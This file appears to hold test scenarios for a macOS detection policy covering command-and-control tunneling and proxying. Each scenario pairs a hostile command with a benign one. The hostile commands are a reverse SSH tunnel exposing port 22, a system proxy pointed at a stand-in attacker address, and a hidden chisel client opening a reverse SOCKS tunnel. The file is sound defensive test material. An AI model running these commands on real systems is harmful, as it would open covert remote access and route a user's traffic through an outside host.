/** macOS command and control (T1090, T1572) (policies/macos/command_and_control_procedures.toml). */
import { run, runArgv, sc, type Scenario } from "../scenario.ts";

export const MACOS_COMMAND_AND_CONTROL: Scenario[] = [
  sc(
    "ssh_tunnel_background",
    "mac_app",
    [run("/usr/bin/ssh", "-N", "-f", "-R", "4444:localhost:22", "tunnel@203.0.113.9")],
    [run("/usr/bin/ssh", "-N", "-D", "1080", "bastion.example.com")],
    "mac_user",
  ),
  sc(
    "system_proxy_set",
    "mac_app",
    [run("/usr/sbin/networksetup", "-setsecurewebproxy", "Wi-Fi", "203.0.113.9", "8080")],
    [run("/usr/sbin/networksetup", "-getsecurewebproxy", "Wi-Fi")],
    "mac_user",
  ),
  sc(
    "tunnel_tool",
    "mac_app",
    [runArgv("/Users/Shared/.svc/chisel", ["chisel", "client", "203.0.113.9:443", "R:socks"])],
    [runArgv("/opt/homebrew/bin/cloudflared", ["cloudflared", "tunnel", "run", "blog"])],
    "mac_user",
  ),
];
